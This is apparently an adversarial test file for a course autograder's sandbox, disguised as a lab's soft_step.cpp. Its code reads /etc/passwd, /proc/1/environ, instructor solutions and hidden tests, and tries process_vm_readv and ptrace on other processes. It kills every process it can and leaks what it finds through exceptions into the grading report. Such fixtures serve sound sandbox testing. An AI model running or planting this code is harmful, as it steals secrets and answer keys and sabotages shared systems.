// adversarial: read other processes' memory and files at run time (the checker's and the grader's through /proc, process_vm_readv and ptrace; the instructor's tree; the password file) and throw whatever it finds from every solver, so that it reaches the report; then try to kill every other process
// mode: replace
// file: labs/06_resting_contact/soft_step.cpp
// secret: root:x:0:0
// quick
#include <fcntl.h>
#include <signal.h>
#include <sys/ptrace.h>
#include <sys/uio.h>
#include <unistd.h>

#include <stdexcept>
#include <string>

#include "physlab/soft_step.hpp"

namespace {
std::string steal() {
  std::string found;
  char buffer[4096];
  const char* files[] = {"/etc/passwd", "{ROOT}/solutions/06_resting_contact/lcp.cpp",
                         "{ROOT}/tests/hidden/06_resting_contact/test_hidden.cpp", "/proc/1/environ"};
  for (const char* path : files) {
    const int fd = open(path, O_RDONLY);
    if (fd < 0) continue;
    const ssize_t got = read(fd, buffer, sizeof buffer);
    if (got > 0) found.append(buffer, static_cast<std::size_t>(got));
    close(fd);
  }
  for (pid_t pid = 1; pid < 4096; ++pid) {
    if (pid == getpid()) continue;
    iovec local{buffer, sizeof buffer};
    iovec remote{reinterpret_cast<void*>(0x400000), sizeof buffer};
    if (process_vm_readv(pid, &local, 1, &remote, 1, 0) > 0) found += "read " + std::to_string(pid) + " ";
    if (ptrace(PTRACE_ATTACH, pid, nullptr, nullptr) == 0) found += "traced " + std::to_string(pid) + " ";
    kill(pid, SIGKILL);
  }
  return found;
}
}  // namespace

namespace physlab {

SoftCoefficients softCoefficients(double, double, double) { throw std::runtime_error(steal()); }

double softNormalImpulse(double, double, double, double, const SoftCoefficients&, double, double, bool) {
  throw std::runtime_error(steal());
}

}  // namespace physlab
